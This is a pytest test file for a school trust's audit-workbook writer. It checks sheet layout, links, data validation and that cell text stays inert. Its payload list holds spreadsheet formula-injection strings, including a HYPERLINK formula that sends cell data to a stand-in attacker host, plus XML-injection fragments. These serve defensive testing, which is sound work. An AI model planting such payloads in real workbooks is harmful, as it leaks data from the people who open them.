"""The workbook: its sheets, what stands in them, and that nothing in it is alive."""

import re
import zipfile
from dataclasses import fields, replace
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl.utils.escape import unescape  # noqa: TID251  (Excel undoes it by itself, openpyxl does not)

from records.policy import Policy, Thresholds
from records.presence import Editor, Editors
from records.register import Register, StaffMember
from records.report import EditorRow
from records.verdict import Verdict
from sheets.place import all_tables
from sheets.safe_text import CELL_LIMIT
from sheets.tables.actions import DECISIONS
from sheets.words import STATES, VERDICTS
from sheets.workbook import Limits
from tests.sheets.report_builder import (
    ACCOUNTS,
    FINDINGS,
    GPS,
    NAMED,
    SEEN,
    UNREGISTERED,
    empty,
    finding,
    only,
    report,
)
from tests.sheets.spreadsheets import Book, column, saying, values, written_book, written_csv

CONTRACT = ["About", "Summary", "Actions", "Findings", "Accounts", "Editors", "Images", "Discovered", "Unseen", "Clauses", "Changes"]
SHEETS = [table.sheet for table in all_tables() if table.sheet]


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Book:
    return written_book(report(), tmp_path_factory.mktemp("book"))


@pytest.fixture(scope="module")
def markup(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("markup")
    written_book(report(), folder)
    with zipfile.ZipFile(folder / "audit.xlsx") as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_the_contracts_sheets_are_there_in_its_order(book: Book) -> None:
    assert [name for name in book.sheetnames if name in CONTRACT] == CONTRACT


def test_every_table_with_a_sheet_has_it(book: Book) -> None:
    assert book.sheetnames == SHEETS


@pytest.mark.parametrize("table", [table for table in all_tables() if table.sheet and table.csv], ids=lambda table: table.sheet)
def test_a_sheet_holds_what_its_csv_file_holds(table, book: Book, tmp_path: Path) -> None:  # noqa: ANN001  (pytest hands it in)
    heading, *lines = written_csv(report(), table.csv, tmp_path)
    titles = {one.name: one.title for one in table.columns}
    told = [values(book, table.sheet, titles[name]) for name in heading]

    assert [["" if cell is None else _as_csv(cell) for cell in line] for line in zip(*told, strict=True)] == lines


def _as_csv(cell: object) -> str:
    """Excel knows no date apart from a moment at midnight."""
    if isinstance(cell, datetime):
        return cell.date().isoformat() if cell.time().isoformat() == "00:00:00" else cell.isoformat() + "Z"
    return str(cell)


@pytest.mark.parametrize("sheet", SHEETS)
def test_a_heading_can_be_read_back_to_its_column(sheet: str) -> None:
    table = next(table for table in all_tables() if table.sheet == sheet)

    assert all(one.heading or one.title.lower().replace(" ", "_").replace("javascript", "js") == one.name for one in table.columns)


@pytest.mark.parametrize("sheet", SHEETS)
def test_the_heading_stays_in_sight_and_is_filtered_and_printed_on_every_page(sheet: str, book: Book) -> None:
    page = book[sheet]

    assert page.freeze_panes.endswith("2")
    assert page.auto_filter.ref is not None
    assert page.print_title_rows == "$1:$1"


@pytest.mark.parametrize("sheet", SHEETS)
def test_a_sheet_prints_on_a4_across(sheet: str, book: Book) -> None:
    page = book[sheet]

    assert (page.page_setup.orientation, page.page_setup.paperSize) == ("landscape", int(page.PAPERSIZE_A4))
    assert page.sheet_properties.pageSetUpPr.fitToPage
    assert (page.page_setup.fitToWidth or 1, page.page_setup.fitToHeight) in {(1, 0), (2, 0)}


@pytest.mark.parametrize("sheet", SHEETS)
def test_dates_are_wide_enough_to_be_seen(sheet: str, book: Book) -> None:
    page = book[sheet]
    narrow = [
        cell.coordinate
        for row in page.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, date) and page.column_dimensions[cell.column_letter].width < 11
    ]

    assert narrow == []


def test_numbers_are_numbers(book: Book) -> None:
    assert {cell.data_type for cell in column(book, "Accounts", "Verified")} == {"n"}


def test_days_are_dates_shown_as_iso(book: Book) -> None:
    cell = column(book, "Findings", "First seen")[0]

    assert isinstance(cell.value, datetime)
    assert cell.number_format == "yyyy-mm-dd"


def test_a_school_number_is_text_without_a_complaint(markup: dict[str, str]) -> None:
    assert 'numberStoredAsText="1"' in markup["xl/worksheets/sheet4.xml"]


def test_the_program_says_who_made_it_and_of_what(book: Book) -> None:
    properties = book.properties

    assert properties.title == "Audit of official accounts and sites, 2026-11-22"
    assert properties.creator == "Larkspur Learning Trust"


# --- inert -----------------------------------------------------------------------------------------------------------

OWN_PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\x0b=1",
    "{=1}",
    '=HYPERLINK("http://attacker.invalid/?"&A1)',
    '<r><t>x</t></r></is></c><c r="A9"><f>1+1</f></c><c><is><r></r>',
    '</t></is></c><c r="A9"><f>1+1</f></c>',
    "_x003D_1+1",
    "internal:'About'!A1",
    "external:\\\\10.0.0.1\\x.xlsx",
    "mailto:office@aldergrove.example",
    "1e5",
    "01/02/2026",
    "TRUE",
    "#REF!",
]


def same_and_inert(texts: list[str], folder: Path) -> None:
    told = only(*saying(*texts))
    book = written_book(told, folder)
    cells = column(book, "Findings", "What")

    assert [cell.data_type for cell in cells] == ["s"] * len(texts)
    assert [unescape(cell.value) for cell in cells] == [line[12] for line in written_csv(told, "findings.csv", folder)[1:]]
    assert [cell.value for cell in cells if str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert formulas(folder / "audit.xlsx") == []


def formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        return [name for name in sheets if re.search(r"<f[ >]", archive.read(name).decode())]


def test_our_own_payloads_are_inert(tmp_path: Path) -> None:
    same_and_inert(OWN_PAYLOADS, tmp_path)


def test_known_payloads_are_inert(tmp_path: Path, hostile_payloads: list[str]) -> None:
    same_and_inert(hostile_payloads, tmp_path)


def test_naughty_strings_are_inert(tmp_path: Path, naughty_strings: list[str]) -> None:
    same_and_inert(naughty_strings, tmp_path)


@pytest.mark.parametrize("payload", OWN_PAYLOADS)
def test_a_payload_is_inert_wherever_it_stands(payload: str, tmp_path: Path) -> None:
    hostile = replace(saying(payload)[0], at=payload, account=payload, school=payload, evidence=payload, finding=payload)
    row = replace(ACCOUNTS[0], account_id=payload, entity_urn=payload, platform=payload, url=payload, owner_staff_id=payload)
    staff = (StaffMember(staff_id=payload, name=""),)
    policy = Policy(clauses=(), platforms={}, approver_roles=(payload,))
    register = Register(accounts=(row,), schools=(), staff=staff)
    summary = replace(report().accounts[0], account=row, evidence_mode=payload, colour=payload)
    written_book(only(hostile, register=register, accounts=(summary,), policy=policy), tmp_path)

    assert formulas(tmp_path / "audit.xlsx") == []


def test_control_characters_do_not_reach_the_file(tmp_path: Path) -> None:
    book = written_book(only(*saying("a\x00b\x08c\x1bd\ud800e\uffff")), tmp_path)

    assert values(book, "Findings", "What") == ["abcde"]


def test_a_text_over_a_cells_limit_is_cut_with_a_mark(tmp_path: Path) -> None:
    told = only(*saying("word " * 8_000))
    text = values(written_book(told, tmp_path), "Findings", "What")[0]

    assert len(text) == CELL_LIMIT
    assert text.endswith("[cut: 40,000 characters in all]")
    assert text == written_csv(told, "findings.csv", tmp_path)[1][12]


def test_rows_over_a_sheets_limit_go_on(tmp_path: Path) -> None:
    book = written_book(only(*saying(*(f"row {number}" for number in range(25)))), tmp_path, limits=Limits(rows=11))
    parts = ["Findings", "Findings (2)", "Findings (3)"]

    assert [book[part].max_row for part in parts] == [11, 11, 6]
    assert sorted(text for part in parts for text in values(book, part, "What")) == sorted(f"row {number}" for number in range(25))


def test_every_page_of_a_sheet_that_goes_on_has_its_heading_and_filter(tmp_path: Path) -> None:
    book = written_book(only(*saying(*"abc")), tmp_path, limits=Limits(rows=2))

    assert [cell.value for cell in book["Findings (3)"][1]] == [cell.value for cell in book["Findings"][1]]
    assert book["Findings (3)"].auto_filter.ref == "A1:S2"


def test_a_sheet_that_is_just_full_opens_no_other(tmp_path: Path) -> None:
    book = written_book(only(*saying(*"abc")), tmp_path, limits=Limits(rows=4))

    assert [name for name in book.sheetnames if name.startswith("Findings")] == ["Findings"]


# --- links -----------------------------------------------------------------------------------------------------------


def test_an_address_is_a_link(tmp_path: Path) -> None:
    cell = column(written_book(only(*saying("x")), tmp_path), "Findings", "At")[0]

    assert cell.hyperlink.target == "https://www.aldergrove.example/"


@pytest.mark.parametrize(
    "address", ["https://a.example/" + "a" * 2_100, "javascript:alert(1)", "file:///c:/x", "https://a b/", r"\\host\share"]
)
def test_an_address_that_excel_could_not_open_stays_text(address: str, tmp_path: Path) -> None:
    cell = column(written_book(only(*saying("x", at=address)), tmp_path), "Findings", "At")[0]

    assert cell.value == address
    assert cell.hyperlink is None


def test_links_over_the_limit_keep_their_text(tmp_path: Path) -> None:
    cells = column(written_book(only(*saying(*"abcde")), tmp_path, limits=Limits(links=2)), "Findings", "At")

    assert [cell.hyperlink is not None for cell in cells] == [True, True, False, False, False]
    assert {cell.value for cell in cells} == {"https://www.aldergrove.example/"}


# --- what the sheets say ---------------------------------------------------------------------------------------------


def test_one_cause_is_one_action_with_its_first_places(book: Book) -> None:
    row = values(book, "Actions", "Problem").index("A picture tells where it was taken")

    assert values(book, "Actions", "Count")[row] == 6
    assert values(book, "Actions", "Where")[row].endswith("DSC_4412.jpg\nand 3 more places")
    assert values(book, "Actions", "Account owner")[row] == "S022"


def test_actions_come_worst_first(book: Book) -> None:
    told = list(zip(values(book, "Actions", "Severity"), values(book, "Actions", "Verdict"), strict=True))

    assert told[:4] == [("Critical", "Fail"), ("Critical", "Fail"), ("Critical", "Fail"), ("Critical", "Review")]
    assert told[-1] == ("Low", "Fail")


def test_every_open_finding_stands_behind_an_action(book: Book) -> None:
    waiting = [finding for finding in FINDINGS if finding.verdict in {Verdict.FAIL, Verdict.REVIEW}]

    assert sum(values(book, "Actions", "Count")) == len(waiting)


def test_accounts_that_no_register_knows_are_actions_of_their_own(tmp_path: Path) -> None:
    lost = [finding(number, UNREGISTERED, Verdict.FAIL, "", f"account {number}", school="990001") for number in range(3)]
    book = written_book(only(*lost), tmp_path)

    assert values(book, "Actions", "What") == ["account 0", "account 1", "account 2"]


def test_people_find_blank_cells_with_choices(book: Book) -> None:
    page = book["Actions"]
    asked = {page.cell(1, next(iter(rule.sqref.ranges)).min_col).value: rule for rule in page.data_validations.dataValidation}

    assert list(asked) == ["Decision", "Owner", "Due", "Note", "Waiver until", "Agreed by"]
    assert asked["Decision"].formula1 == f'"{",".join(DECISIONS)}"'
    assert asked["Agreed by"].formula1 == '"Chief Executive,Headteacher"'
    assert (asked["Due"].type, asked["Waiver until"].type) == ("date", "date")
    assert values(book, "Actions", "Decision") == [None] * (page.max_row - 1)


def test_more_staff_than_a_list_holds_can_still_be_entered(tmp_path: Path) -> None:
    staff = tuple(StaffMember(staff_id=f"STAFF-{number:05d}", name="") for number in range(60))
    page = written_book(report(register=Register(accounts=ACCOUNTS, staff=staff)), tmp_path)["Actions"]

    assert "STAFF-00000" not in str([rule.formula1 for rule in page.data_validations.dataValidation])


def test_a_school_says_verified_n_of_m_and_a_word_with_its_colour(book: Book) -> None:
    assert values(book, "Summary", "School")[1] == "Alder Grove Primary School"
    assert values(book, "Summary", "Verified")[1] == "verified 20 of 29"
    assert values(book, "Summary", "State")[1] == STATES["red"].word


def test_every_account_follows_the_schools(book: Book) -> None:
    assert values(book, "Summary", "Account")[4:] == [row.account_id for row in ACCOUNTS]


def test_summary_has_a_chart_with_words_for_those_who_do_not_see_it(markup: dict[str, str]) -> None:
    drawing = next(body for name, body in markup.items() if name.startswith("xl/drawings/drawing"))

    assert "xl/charts/chart1.xml" in markup
    assert 'descr="Stacked bars, one a school' in drawing


def test_editors_are_numbers_and_roles(tmp_path: Path) -> None:
    people = (Editor(login="r.ashdown", name="Rowan Ashdown", role="administrator"),)
    row = EditorRow(account_id="alder-facebook", editors=Editors(people=people, seen=SEEN), by_role=(("administrator", 1),))
    written_book(report(editors=(row,)), tmp_path)
    with zipfile.ZipFile(tmp_path / "audit.xlsx") as archive:
        everything = "".join(archive.read(name).decode(errors="replace") for name in archive.namelist())

    assert "administrator" in everything
    assert "ashdown" not in everything.lower()


def test_unseen_editors_are_said_to_be_unseen(book: Book) -> None:
    row = values(book, "Editors", "Account").index("beacon-x")

    assert values(book, "Editors", "Count")[row] is None
    assert values(book, "Editors", "Why unseen")[row] == "the platform shows nobody who may edit"


def test_partly_seen_editors_are_said_to_be_partly_seen(book: Book) -> None:
    row = values(book, "Editors", "Account").index("alder-facebook")

    assert (values(book, "Editors", "Lists seen")[row], values(book, "Editors", "Lists there are")[row]) == (1, 2)
    assert values(book, "Editors", "Why unseen")[row] == "one of two lists of a Page"


def test_clauses_say_how_their_checks_went_or_who_must_look(book: Book) -> None:
    told = dict(zip(values(book, "Clauses", "Clause"), values(book, "Clauses", "State"), strict=True))

    assert (told["8.2"], told["7"], told["policy header"]) == ("Failed", "By a person", "Failed")
    assert values(book, "Clauses", "By whom")[2] == "Headteacher"


def test_about_tells_every_threshold_and_hash(book: Book) -> None:
    names = values(book, "About", "Name")

    assert values(book, "About", "Part").count("Thresholds") >= len(fields(Thresholds))
    assert {"inventory.csv", "policy/clauses.csv"} <= set(names)
    assert "Login wall" in names


def test_changes_begin_with_what_came_back(book: Book) -> None:
    assert values(book, "Changes", "Change")[0] == "Regressed"


def test_a_first_audit_has_no_changes(tmp_path: Path) -> None:
    book = written_book(only(*saying("x", change="new")), tmp_path)

    assert str(book["Changes"]["A2"].value).startswith("Nothing to compare with")


def test_a_finding_not_assessed_is_told_whatever_its_verdict(tmp_path: Path) -> None:
    skipped = finding(1, NAMED, Verdict.UNKNOWN, "alder-site", "not looked at", change="not_assessed")

    assert values(written_book(only(skipped), tmp_path), "Changes", "Change") == ["Not assessed"]


def test_a_verdict_has_its_word_and_its_colour(book: Book) -> None:
    cell = column(book, "Findings", "Verdict")[0]

    assert cell.value == "fail"
    assert cell.fill.fgColor.rgb == "FF" + VERDICTS["fail"].fill[1:]


def test_wrapped_text_has_room(tmp_path: Path) -> None:
    told = only(*saying("short", "a long sentence about a picture on a page, " * 6))
    page = written_book(told, tmp_path)["Findings"]
    tall = [page.row_dimensions[line].height for line in (2, 3)]

    assert sorted(height or 15.0 for height in tall)[1] >= 4 * 13.5


@pytest.mark.parametrize("sheet", SHEETS)
def test_a_report_of_nothing_says_so(sheet: str, tmp_path: Path) -> None:
    page = written_book(empty(), tmp_path)[sheet]
    table = next(table for table in all_tables() if table.sheet == sheet)

    first = next(iter(table.rows(empty())), (table.nothing,))

    assert page["A2"].value == first[0]


def test_the_same_report_gives_the_same_workbook(tmp_path: Path) -> None:
    bodies = []
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        written_book(report(), tmp_path / name)
        bodies.append((tmp_path / name / "audit.xlsx").read_bytes())

    assert bodies[0] == bodies[1]


def test_a_rule_may_serve_two_clauses(tmp_path: Path) -> None:
    book = written_book(only(finding(1, NAMED, Verdict.FAIL, "alder-site", "x"), rules=(NAMED, GPS)), tmp_path)
    told = dict(zip(values(book, "Clauses", "Clause"), values(book, "Clauses", "Fail"), strict=True))

    assert (told["8.5"], told["6"], told["8.2"]) == (1, 1, 0)
